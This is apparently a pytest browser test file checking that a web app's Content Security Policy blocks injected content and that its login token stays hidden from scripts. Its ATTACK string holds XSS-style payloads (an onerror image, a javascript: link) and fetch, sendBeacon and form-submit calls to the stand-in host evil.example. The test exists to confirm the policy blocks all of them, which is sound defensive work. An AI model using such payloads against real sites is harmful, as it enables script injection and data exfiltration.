"""What the policy of the pages forbids, in a real browser; and the token, entered by a person."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from page_driver import Page
from page_service import PageService, serve_really
from selenium import webdriver
from selenium.webdriver.common.keys import Keys

from pipeline.settings import ServerSettings, Settings

pytestmark = pytest.mark.browser

TOKEN = "a-token-of-enough-letters"
ATTACK = """
const [wanted, done] = arguments;
const seen = new Set();
document.addEventListener("securitypolicyviolation", (event) => seen.add(event.effectiveDirective));
const add = (tag, values) => document.body.append(Object.assign(document.createElement(tag), values));
add("img", { src: "https://evil.example/x.png" });
add("script", { src: "https://evil.example/x.js" });
add("script", { textContent: "document.title = 'evil'" });
add("style", { textContent: "body { display: none }" });
add("link", { rel: "stylesheet", href: "https://evil.example/x.css" });
add("iframe", { src: "https://evil.example/" });
add("object", { data: "https://evil.example/x.swf" });
add("video", { src: "https://evil.example/x.mp4" });
const holder = document.createElement("div");
holder.innerHTML = `<img src=x onerror="document.title='X'"><a href="javascript:document.title='X'">x</a>`;
document.body.append(holder);
holder.querySelector("a").click();
new FontFace("evil", "url(https://evil.example/x.woff2)").load().catch(() => undefined);
fetch("https://evil.example/").catch(() => undefined);
navigator.sendBeacon("https://evil.example/", "x");
const form = document.createElement("form");
Object.assign(form, { action: "https://evil.example/", method: "post" });
document.body.append(form);
form.submit();
const until = Date.now() + 8000;
const look = () => wanted.every((name) => seen.has(name)) || Date.now() > until
  ? setTimeout(() => done([...seen].sort()), 300) : setTimeout(look, 50);
look();
"""
FORBIDDEN = {
    "connect-src",
    "font-src",
    "form-action",
    "frame-src",
    "img-src",
    "media-src",
    "object-src",
    "script-src-attr",
    "script-src-elem",
    "style-src-elem",
}


@pytest.fixture(params=["fastapi", "flask"])
def kind(request: pytest.FixtureRequest) -> str:
    return request.param


@pytest.fixture
def locked(kind: str, driver: webdriver.Chrome) -> Iterator[Page]:
    settings = Settings(server=ServerSettings(token=TOKEN))
    with serve_really(kind, PageService(), settings=settings) as address:
        yield Page(driver, address)
        driver.delete_all_cookies()
        driver.get("about:blank")


@pytest.mark.parametrize("path", ["/", "/kb", "/map"])
def test_nothing_remote_and_nothing_inline_can_load(kind: str, driver: webdriver.Chrome, path: str) -> None:
    with serve_really(kind, PageService()) as address:
        page = Page(driver, address)
        driver.get(f"{address}{path}")
        page.requests()
        assert set(driver.execute_async_script(ATTACK, sorted(FORBIDDEN))) >= FORBIDDEN
        assert driver.title.startswith("Otvet"), "the page set its own title and nobody else another one"
        page.wait(
            lambda: page.js("return document.body.checkVisibility()"),
            "page.js('return document.body.checkVisibility()')",
        )
        outside = [url for url in page.requests() if url.startswith("http") and not url.startswith(address)]
        assert outside == []
        assert driver.current_url == f"{address}{path}"
        page.complaints()
        driver.get("about:blank")


def test_the_token_is_entered_once_and_no_script_sees_it(locked: Page) -> None:
    locked.driver.get(f"{locked.address}/map?q=1")
    box = locked.one("#token")
    locked.wait_focus("token")
    box.send_keys("no such token", Keys.ENTER)
    locked.wait_text("[role=alert]", "That is not the token.")
    locked.one("#token").send_keys(TOKEN, Keys.ENTER)
    locked.wait(lambda: locked.driver.current_url == f"{locked.address}/map?q=1", "the way on")
    locked.driver.get(f"{locked.address}/")
    locked.wait(
        lambda: locked.js("return document.cookie") == "", "locked.js('return document.cookie') == ''"
    )
    locked.paste("отпуск")
    locked.wait(lambda: len(locked.all(".card")) == 2, "sources")
    locked.press(Keys.ENTER)
    locked.wait_text(".model .words", "Отпуск длится 28 дней [1].")
